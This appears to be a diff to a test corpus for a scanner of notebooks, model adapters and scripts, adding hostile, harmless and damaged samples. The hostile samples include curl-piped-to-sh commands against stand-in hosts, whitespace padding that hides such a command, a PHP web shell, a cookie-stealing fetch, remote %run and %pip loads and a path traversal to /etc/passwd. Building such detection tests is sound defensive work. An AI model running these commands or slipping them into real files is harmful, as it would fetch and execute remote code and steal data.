@@ -14,6 +14,7 @@ from tests.corpus.pickles import evil
 Sample = tuple[str, bytes | dict[str, bytes]]
 
 _FETCH = "curl http://x.example/i | sh"
+_BARE = "curl http://203.0.113.9/i | sh"
 _PYTHON = b"import os\nos.system('curl http://x.example/i | sh')\n"
 _ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(500)
 _SHELL = b"<?php system($_GET['c']); ?>"
@@ -69,6 +70,14 @@ def hostile() -> Iterator[Sample]:
     yield "cell_one_line.ipynb", _notebook("code", f"!!{one_line}")
     install = "%pip install -q http://203.0.113.9/pack-1.0-py3-none-any.whl"
     yield "cell_install.ipynb", _notebook("code", install)
+    yield "cell_run.ipynb", _notebook("code", "%run http://203.0.113.9/train.py")
+    yield "cell_assigned.ipynb", _notebook("code", f"found = !{_BARE}\nprint(found)")
+    yield "cell_padded.ipynb", _notebook("code", f"!true {'x ' * 5000}; {_BARE}")
+    yield "script_padded.sh", b"#!/bin/sh\ntrue " + b"x " * 5000 + b"; " + _BARE.encode() + b"\n"
+    yield (
+        "adapter/adapter_config.json",
+        _json({"peft_type": "LORA", "base_model_name_or_path": "../../etc/passwd"}),
+    )
     yield (
         "cell_script.ipynb",
         _notebook("code", "%%javascript\nfetch('http://x.example/' + document.cookie)"),
@@ -134,6 +143,11 @@ def harmless() -> Iterator[Sample]:
     yield "cell_magic.ipynb", _notebook("code", "%%bash\npip install transformers\nls")
     install = "!pip install -i http://10.1.2.3/simple pack http://10.1.2.3/pack-1.0.whl"
     yield "cell_install.ipynb", _notebook("code", install)
+    yield "cell_question.ipynb", _notebook("code", "torch.load?\nfound = !ls\nprint(found)")
+    yield (
+        "adapter/adapter_config.json",
+        _json({"peft_type": "LORA", "base_model_name_or_path": "/home/me/models/llama"}),
+    )
     yield "cell_page.ipynb", _notebook("code", "%%html\n<style>td { color: red }</style>")
     yield (
         "kernel/config.json",
@@ -145,4 +159,7 @@ def harmless() -> Iterator[Sample]:
 
 
 def damaged() -> Iterator[Sample]:
+    yield "no_list.ipynb", _json({"nbformat": 4, "cells": "import os", "metadata": {}})
+    yield "no_cell.ipynb", _json({"nbformat": 4, "cells": ["import os"], "metadata": {}})
+    yield "no_source.ipynb", _json({"nbformat": 4, "cells": [{"cell_type": "code", "source": {}}]})
     yield "cut/package.json", b'{"name": "x", "scripts": {'
